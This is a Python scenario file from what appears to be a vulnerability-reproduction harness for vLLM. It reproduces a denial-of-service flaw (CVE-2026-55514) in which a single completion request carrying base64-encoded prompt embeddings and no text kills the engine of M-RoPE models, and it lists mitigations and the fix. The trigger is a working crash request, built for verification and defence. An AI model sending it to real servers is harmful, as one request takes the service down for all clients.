"""vLLM: prompt embeddings without tokens end the engine of a model with M-RoPE."""

import asyncio
import json

from mmrepro.scenario import (
    Drive,
    FailureClass,
    Finding,
    LiveFacts,
    Reference,
    Severity,
    Upstream,
    UpstreamState,
    claim,
    cure,
    pull,
    quote,
    upgrade,
    vllm_killed as killed,
)
from mmrepro.scenario.more import crash

PATH = "/v1/completions"
TENSOR = """
import base64, io, json, sys, torch
size = json.load(open(sys.argv[1] + "/config.json"))
size = size.get("text_config", size)["hidden_size"]
torch.save(torch.zeros(5, size, dtype=torch.bfloat16), file := io.BytesIO())
print(base64.b64encode(file.getvalue()).decode())
"""
"""Embeddings of five tokens (5 x hidden_size, bfloat16), as a client sends them."""
REPORT = Reference(
    id="PYSEC-2026-2303",
    title="prompt_embeds end EngineCore on models with M-RoPE (CVE-2026-55514)",
    url="https://osv.dev/vulnerability/PYSEC-2026-2303",
)
FIX = pull("vllm#45252", "Fix DoS via prompt_embeds on M-RoPE models", release="0.24.0")


class EmbedsMrope(killed.KilledByRequest):
    """Prompt embeddings without tokens end the engine of a model with M-RoPE.

    What: On a server with `--enable-prompt-embeds` a completion brings `prompt_embeds` and no
    text. It gets HTTP 500, EngineCore is dead, and the server ends some seconds later. The same
    completion with a text is answered.

    Why: A model with multimodal rotary positions (Qwen2-VL and its successors) works them out
    from the prompt's token ids. A prompt of embeddings has none: the model runner asserts that
    there are some, in EngineCore, after the request was accepted.
    """

    name = "embeds-mrope"
    release, affected = "0.23.0", ">=0.17.0,<0.24.0"
    """Run: 0.23.0, and 0.24.0 as fixed. 0.14.0 dies of it too, and answers the request with HTTP
    200 first; what lies between was not run."""
    failure_class, severity = FailureClass.ENGINE_DEATH, Severity.CRITICAL
    upstream = Upstream(UpstreamState.FIXED, FIX, "2026-11-24", "0.24.0")
    references = (REPORT, FIX)
    server = f"{killed.KilledByRequest.server} --enable-prompt-embeds"
    refusal, died_of = "prompt_embeds|enable-prompt-embeds", "the assertion on token ids"
    log_patterns = killed.of_the_killer(
        sent=r"prompt_embeds shape: torch\.Size\(\[5, \d+\]\)",
        raised=r"M-RoPE requires prompt_token_ids to be available",
        through=r"assert req_state\.prompt_token_ids is not None",
    )
    sources = (
        quote(
            "vllm/v1/worker/gpu_model_runner.py",
            "GPUModelRunner._init_mrope_positions",
            "a request of embeddings has no token ids",
            "M-RoPE requires prompt_token_ids",
        ),
    )
    mitigations = (
        cure(
            "refuse-embeds",
            "--no-enable-prompt-embeds",
            "do not take prompt embeddings (the default): the request is refused",
        ),
        upgrade("0.24.0", "upgrade to 0.24.0: the request is answered (vllm#45252)"),
    )

    def exposure(self, facts: LiveFacts) -> Finding:
        """Only a server that takes prompt embeddings: it does not by default."""
        if facts.command and not facts.has(("--enable-prompt-embeds",)):
            return Finding.of(False, "the server takes no prompt embeddings")
        return super().exposure(facts)

    async def trigger(self, drive: Drive) -> None:
        making = await asyncio.create_subprocess_exec(
            str(drive.python), "-c", TENSOR, str(drive.model), stdout=asyncio.subprocess.PIPE
        )
        tensor, _ = await making.communicate()
        for label, prompt in (
            (killed.CONTROL, {"prompt": "hello"}),
            (killed.KILLER, {"prompt": None, "prompt_embeds": tensor.decode().strip()}),
        ):
            body = {"model": drive.traffic.model, "max_tokens": 4, "temperature": 0, **prompt}
            await drive.unless_stuck(
                drive.traffic.raw(
                    label, path=PATH, body=json.dumps(body).encode(), deadline_s=drive.deadline_s
                )
            )
        await crash.watch(drive)

    claims = (
        claim(
            "assertion",
            "an assertion that the prompt has token ids fails in _init_mrope_positions",
            REPORT,
            by=("first-error", killed.THROUGH),
            given="arrived",
            refutable_on=affected,
        ),
        claim("one-request", "a single request ends the server for all clients", REPORT,
              by="symptom", given="arrived", refutable_on=affected),
        claim("fixed", "the request no longer ends the engine", FIX, given="arrived",
              releases=">=0.24.0", by=killed.survived),
    )  # fmt: skip


SCENARIO = EmbedsMrope()
